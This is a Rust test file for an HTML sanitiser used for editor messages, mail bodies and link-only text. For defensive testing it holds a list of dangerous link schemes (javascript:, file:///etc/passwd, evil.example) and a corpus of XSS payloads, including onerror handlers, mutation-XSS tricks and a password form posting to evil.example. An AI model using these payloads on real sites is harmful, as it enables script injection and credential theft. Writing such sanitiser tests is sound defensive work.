use super::*;

/// What our own editor's text becomes.
fn clean(html: &str) -> String {
    Dialect::Message.cleaned(html)
}

/// What the editor makes comes through as it is.
#[test]
fn what_the_editor_makes_is_kept() {
    for kept in [
        "<p>Bytte av lager på <strong>spindel</strong>, <em>nøye</em> målt.</p>",
        "<h1>En</h1><h2>To</h2><h3>Tre</h3>",
        "<ol><li><p>Først</p></li></ol><ul><li>så</li></ul>",
        "<blockquote><p><u>sitat</u> <s>feil</s> <b>f</b> <i>k</i></p></blockquote>",
        "<p style=\"text-align: center\">midt</p>",
        "<p>linje<br>skift</p>",
        "<p><img src=\"https://bilder.example/a.jpg\" alt=\"Dreiebenk\"></p>",
        "<p><img src=\"data:image/png;base64,iVBORw0KGgo=\"></p>",
    ] {
        assert_eq!(clean(kept), kept);
    }
}

const BAD_LINKS: [&str; 15] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:x",
    "file:///etc/passwd",
    "data:text/html,<b>x",
    "data:image/png;base64,AAAA",
    "//evil.example",
    "/api/authentication/signout",
    "#x",
    "",
    "blob:https://a.example/1",
    "tel:+4712345678",
];

/// "allows a fixed set of tags and only https and data link schemes".
#[test]
fn a_message_links_to_https_and_shows_data() {
    assert_eq!(
        clean("<a href=\"https://lov.example/x?a=1&amp;b=2\" target=_blank>lov</a>"),
        "<a href=\"https://lov.example/x?a=1&amp;b=2\" rel=\"noopener noreferrer\">lov</a>"
    );
    assert!(clean("<a href='HTTPS://a.example'>x</a>").contains("HTTPS://a.example"));
    for bad in BAD_LINKS.into_iter().chain(["http://a.example", "mailto:kari@fjord.example"]) {
        let cleaned = clean(&format!("<a href=\"{bad}\">x</a>"));
        assert_eq!(cleaned, "<a rel=\"noopener noreferrer\">x</a>", "{bad}");
    }
    for bad in [
        "http://plain.example/a.png",
        "data:image/svg+xml;base64,AAAA",
        "data:text/html;base64,AA",
        "javascript:alert(1)",
        "//evil.example/a.png",
        "/api/files/1",
        "mailto:a@b.example",
        "cid:logo@fjord.example",
    ] {
        assert_eq!(clean(&format!("<img src=\"{bad}\">")), "<img>", "{bad}");
    }
}

/// "the mail-body sanitiser also allows cid and style/colour properties".
#[test]
fn a_mail_keeps_its_tables_colours_and_pictures() {
    let mail = |html: &str| Dialect::MailBody.clean(html).unwrap();
    for kept in [
        "<img src=\"cid:logo@fjord.example\" width=\"120\">",
        "<span style=\"color: #ff0000; background-color: rgba(0, 0, 0, 0.5)\">rødt</span>",
        "<table><tbody><tr><td colspan=\"2\" bgcolor=\"#eeeeee\">a</td></tr></tbody></table>",
        "<font color=\"red\">a</font>",
    ] {
        assert_eq!(mail(kept), kept);
    }
    assert_eq!(
        mail("<p style=\"font-family:'Segoe UI', Arial;FONT-SIZE:11pt\">a</p>"),
        "<p style=\"font-family: segoe ui, arial; font-size: 11pt\">a</p>"
    );
    for bad in BAD_LINKS.into_iter().chain(["cid:x"]) {
        let cleaned = mail(&format!("<a href=\"{bad}\">x</a>"));
        assert_eq!(cleaned, "<a rel=\"noopener noreferrer\">x</a>", "{bad}");
    }
}

/// A mail's style may not reach out of the mail, nor call home.
#[test]
fn a_mails_style_hides_nothing() {
    for bad in [
        "background-color:url(https://evil.example/x)",
        "background:url(x)",
        "color:expression(alert(1))",
        "position:fixed",
        "color:red\\3b position:fixed",
        "color:var(--sv-primary)",
        "width:calc(100vw)",
        "color:rgb(url(x))",
        "color:/**/red",
        "-moz-binding:url(x)",
        "behavior:url(x)",
        "color:@import",
        "color:{}",
    ] {
        let cleaned = Dialect::MailBody.clean(&format!("<p style=\"{bad}\">x</p>")).unwrap();
        assert_eq!(cleaned, "<p>x</p>", "{bad}");
    }
    for bad in ["width=\"1e9\"", "width=\"99999\"", "align=\"a b\"", "bgcolor=\"url(x)\""] {
        let cleaned = Dialect::MailBody.clean(&format!("<img {bad}>")).unwrap();
        assert_eq!(cleaned, "<img>", "{bad}");
    }
}

/// "link-only sanitiser allows http, https and mailto".
#[test]
fn a_line_keeps_its_links_and_nothing_else() {
    let links = |html: &str| Dialect::Links.clean(html).unwrap();
    for scheme in ["http://a.example", "https://a.example", "mailto:kari@fjord.example"] {
        let kept = format!("<a href=\"{scheme}\" rel=\"noopener noreferrer\">x</a>");
        assert_eq!(links(&kept), kept);
    }
    for bad in BAD_LINKS {
        let cleaned = links(&format!("<a href=\"{bad}\">x</a>"));
        assert_eq!(cleaned, "<a rel=\"noopener noreferrer\">x</a>", "{bad}");
    }
    assert_eq!(
        links("<p style=\"color:red\"><b>Se</b> <img src=\"https://a.example/b.png\">her</p>"),
        "Se her"
    );
}

/// Whatever is thrown at it, nothing that runs, frames, styles or posts comes out.
#[test]
fn hostile_text_is_disarmed() {
    let corpus = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://a.example/a.png\" onload=alert(1) srcset=\"https://b.example 2x\">",
        "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style>\
         <img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,x\"></object><embed src=\"javascript:alert(1)\">",
        "<form action=https://evil.example><input name=password><button>ok</button></form>",
        "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/a.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<p style=\"background:url(https://evil.example/x)\">x</p>",
        "<p style=\"text-align:center;position:fixed;inset:0\">x</p>",
        "<p style=\"text-align:expression(alert(1))\">x</p>",
        "<p onclick=alert(1) id=root class=hidden data-x=1>x</p>",
        "<a href=\"https://a.example\" onmouseover=alert(1) style=\"color:red\">x</a>",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
        "<b <script>alert(1)</script>0",
        "<a href=\"https://a.example\" rel=\"opener\">x</a>",
        "<animate attributeName=href values=javascript:alert(1) />",
        "<p>\u{202e}gnp.exe</p>\u{0}<img\u{0} src=x\u{0}onerror=alert(1)>",
    ];
    let forbidden = [
        "<script",
        "<svg",
        "<math",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<base",
        "<link",
        "<meta",
        "<style",
        "<template",
        "<textarea",
        "<video",
        "<audio",
        "<details",
        "<button",
        "<!--",
        "position",
        "background",
        "expression",
        "class=",
        "id=",
        "data-x",
        "srcset",
        "rel=\"opener\"",
        "color",
    ];
    for hostile in corpus {
        let cleaned = clean(hostile);
        let tags: String = only_tags(&cleaned);
        for word in forbidden {
            assert!(!tags.to_lowercase().contains(word), "{word} from {hostile}: {cleaned}");
        }
        assert!(!tags.contains(" on"), "a handler from {hostile}: {cleaned}");
        assert!(!tags.contains("javascript:"), "{hostile}: {cleaned}");
        assert_eq!(clean(&cleaned), cleaned, "cleaning twice changes {hostile}");
        for dialect in [Dialect::MailBody, Dialect::Links] {
            let cleaned = dialect.cleaned(hostile);
            let tags = only_tags(&cleaned).to_lowercase();
            // A mail may have colours.
            for word in forbidden.iter().filter(|word| !["color", "background"].contains(word)) {
                assert!(!tags.contains(word), "{word} from {hostile}: {cleaned}");
            }
            assert!(!tags.contains(" on"), "a handler from {hostile}: {cleaned}");
            assert!(!tags.contains("javascript:") && !tags.contains("url("), "{hostile}");
            assert_eq!(dialect.cleaned(&cleaned), cleaned, "cleaning twice changes {hostile}");
        }
    }
}

/// The tags of well-formed HTML with their attributes, without the text between them.
fn only_tags(html: &str) -> String {
    let (mut tags, mut inside, mut quoted) = (String::new(), false, false);
    for c in html.chars() {
        match c {
            '<' if !quoted => inside = true,
            '"' if inside => quoted = !quoted,
            '>' if !quoted => inside = false,
            _ => {}
        }
        if inside {
            tags.push(c);
        }
    }
    tags
}

#[test]
fn of_a_style_only_the_alignment_is_kept() {
    assert_eq!(
        clean("<h2 style=\"COLOR:red; Text-Align : RIGHT ;x\">a</h2>"),
        "<h2 style=\"text-align: right\">a</h2>"
    );
    assert_eq!(clean("<p style=\"text-align: middle\">a</p>"), "<p>a</p>");
    assert_eq!(clean("<li style=\"text-align: right\">a</li>"), "<li>a</li>");
}

/// "Sending needs … content": a picture counts, empty paragraphs and spaces do not.
#[test]
fn blank_text_is_told_from_content() {
    for blank in [
        "",
        "<p></p>",
        "<p><br></p><h1> </h1>",
        "<p>&nbsp;\u{a0}</p>",
        "<img>",
        "<p><img alt=\"\"></p>",
    ] {
        assert!(is_blank(&clean(blank)), "{blank}");
    }
    for full in [
        "a",
        "<p>.</p>",
        "<img src=\"https://a.example/b.png\">",
        "<img alt=\"x\" src=\"https://a.example/b.png\">",
    ] {
        assert!(!is_blank(&clean(full)), "{full}");
    }
}

#[test]
fn words_do_not_run_together() {
    assert_eq!(
        plain("<h1>Lager</h1><p>Byttet &amp; målt<br>to ganger</p>"),
        "Lager Byttet & målt to ganger"
    );
    assert_eq!(plain("<p>&amp;lt;b&amp;gt; 1 &lt; 2</p>"), "&lt;b&gt; 1 < 2");
}

/// Reading a text costs the square of its depth and of its entities, so both have a limit.
#[test]
fn what_would_take_long_to_read_is_refused() {
    for dialect in [Dialect::Message, Dialect::MailBody, Dialect::Links] {
        for mark in ["<blockquote>", "&", "&nbsp;"] {
            assert!(dialect.measure(&mark.repeat(MARKS_MAX)).is_ok());
            assert_eq!(dialect.clean(&mark.repeat(MARKS_MAX + 1)), Err(TooMuch::Marks));
        }
        let long = "a".repeat(dialect.bytes_max());
        assert!(dialect.measure(&long).is_ok());
        assert_eq!(dialect.clean(&format!("{long}a")), Err(TooMuch::Bytes));
    }
    // What is escaped grows.
    let grows = format!("{}<", "a".repeat(RICH_TEXT_BYTES_MAX - 1));
    assert_eq!(Dialect::Message.clean(&grows), Err(TooMuch::Bytes));
    let cleaned = clean(&"<blockquote>".repeat(MARKS_MAX / 2));
    assert!(cleaned.starts_with("<blockquote><blockquote>"));
    assert!(is_blank(&cleaned));
}

/// A refused field says which and why, with one code for each reason.
#[test]
fn a_text_that_is_too_much_is_a_wrong_field() {
    let mut fields = Fields::new();
    Dialect::Message.check(&mut fields, "content", &"&".repeat(MARKS_MAX + 1));
    Dialect::Message.check(&mut fields, "personvern", &"a".repeat(RICH_TEXT_BYTES_MAX + 1));
    Dialect::Message.check(&mut fields, "fine", "<p>a</p>");
    let wrong = fields.finish().unwrap_err();
    let codes: Vec<_> = wrong.iter().map(|it| (it.field.as_str(), it.code)).collect();
    assert_eq!(codes, [("content", "too_complex"), ("personvern", "too_long")]);
}

proptest::proptest! {
    /// Cleaning is settled after one turn, whatever was sent.
    #[test]
    fn cleaning_twice_changes_nothing(
        text in "(<[a-z1]{1,5}( (href|src|style)=\"[a-z:/;-]{0,12}\")?>|</[a-z1]{1,4}>\
                 |[a-zæøå &<>\"']{0,8}){0,12}",
    ) {
        for dialect in [Dialect::Message, Dialect::MailBody, Dialect::Links] {
            let once = dialect.cleaned(&text);
            proptest::prop_assert_eq!(dialect.cleaned(&once), once);
        }
    }
}

/// What the browser cleans of a mail that never comes here is held by the same cases
/// (`web/src/features/outlook/cleaning.test.tsx`).
#[test]
fn a_mail_is_cleaned_as_the_browser_cleans_it() {
    let cases: Vec<(String, String)> =
        serde_json::from_str(include_str!("mail_cases.json")).unwrap();
    for (mail, kept) in cases {
        assert_eq!(Dialect::MailBody.clean(&mail).unwrap(), kept, "{mail}");
    }
}
